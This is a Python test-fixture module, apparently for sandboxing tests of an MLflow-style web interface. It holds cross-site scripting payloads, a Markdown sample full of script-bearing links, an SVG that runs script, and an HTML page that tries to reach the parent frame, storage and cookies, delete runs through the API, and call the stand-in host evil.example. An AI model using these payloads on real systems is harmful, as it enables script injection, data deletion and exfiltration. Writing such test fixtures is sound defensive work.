"""Texts that would run in a page that takes data for markup."""

from __future__ import annotations

__all__ = ["MARKDOWN", "MARKS", "PAYLOADS", "evil_html", "evil_svg"]

MARKS = "window.pwned = (window.pwned || 0) + 1; alert('pwned')"
"""What each payload would do: leave a mark, and open a dialog."""

_SCRIPT = "pwned=1;alert(1)"
PAYLOADS = (
    f"<script>{_SCRIPT}</script>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<svg onload={_SCRIPT}>",
    f"\"><img src=x onerror='{_SCRIPT}'>",
    f"'><iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"javascript:{_SCRIPT}//",
    f"{{{{constructor.constructor('{_SCRIPT}')()}}}}",
    f"`-{_SCRIPT}-`${{{_SCRIPT}}}",
    f"</textarea></title></style><script>{_SCRIPT}</script>",
    f"<a href='javascript:{_SCRIPT}'>press</a>",
    f"<math><mtext><style><img src=x onerror={_SCRIPT}></style></mtext></math>",
    "<style>body{display:none}</style><base href=https://evil.example/>",
    "<form action=https://evil.example/><input name=x>",
    "\u202etxt.exe\u202c 名前 ﷽ é́́",
)
"""One payload for each way that markup, attributes, addresses, templates or scripts could be broken out of."""

MARKDOWN = f"""# <img src=x onerror="{_SCRIPT}">

<script>{_SCRIPT}</script>

[press](javascript:{_SCRIPT}) [data](data:text/html,<script>{_SCRIPT}</script>) [vb](vbscript:{_SCRIPT})
[entity](&#106;avascript:{_SCRIPT}) [tab](java&#9;script:{_SCRIPT}) [space](  javascript:{_SCRIPT})

![picture](https://evil.example/pixel.png) ![on](x" onerror="{_SCRIPT})

<https://evil.example/> [ref][1]

| <b onmouseover={_SCRIPT}>a</b> | `<script>` |
|---|---|
| <iframe src=javascript:{_SCRIPT}> | x |

```html
<script>{_SCRIPT}</script>
```

[1]: javascript:{_SCRIPT}
"""


def evil_svg() -> str:
    """A picture that runs."""
    size = 'xmlns="http://www.w3.org/2000/svg" width="9" height="9"'
    return f'<svg {size} onload="{_SCRIPT}"><script>{MARKS}</script></svg>'


def evil_html(server: str, run: str) -> str:
    """A page that says so when it runs, and then tries to get out by every way there is."""
    return f"""<!doctype html><p id=out>waiting</p><script>
const told = [];
const attempt = async (name, work) => {{
  try {{ await work(); told.push(name + ' worked'); }} catch (e) {{ told.push(name + ' refused'); }}
}};
(async () => {{
  await attempt('parent', () => {{ parent.document.title = 'pwned'; parent.pwned = 1; }});
  await attempt('storage', () => localStorage.setItem('stele.token', 'x'));
  await attempt('cookie', () => {{ document.cookie = 'a=b'; if (!document.cookie) throw 0; }});
  await attempt('read', () => fetch('{server}/api/2.0/mlflow/runs/get?run_id={run}').then((r) => r.text()));
  await attempt('write', () => fetch('{server}/api/2.0/mlflow/runs/delete', {{
    method: 'POST', headers: {{'content-type': 'application/json'}}, body: JSON.stringify({{run_id: '{run}'}}) }}));
  await attempt('simple', () => fetch('{server}/api/2.0/mlflow/runs/delete', {{
    method: 'POST', mode: 'no-cors', body: JSON.stringify({{run_id: '{run}'}}) }}));
  await attempt('elsewhere', () => fetch('https://evil.example/', {{mode: 'no-cors'}}));
  await attempt('top', () => {{ top.location = 'https://evil.example/'; }});
  await attempt('window', () => {{ if (!open('https://evil.example/')) throw 0; }});
  document.getElementById('out').textContent = 'ran: ' + told.join(', ');
}})();
</script>"""
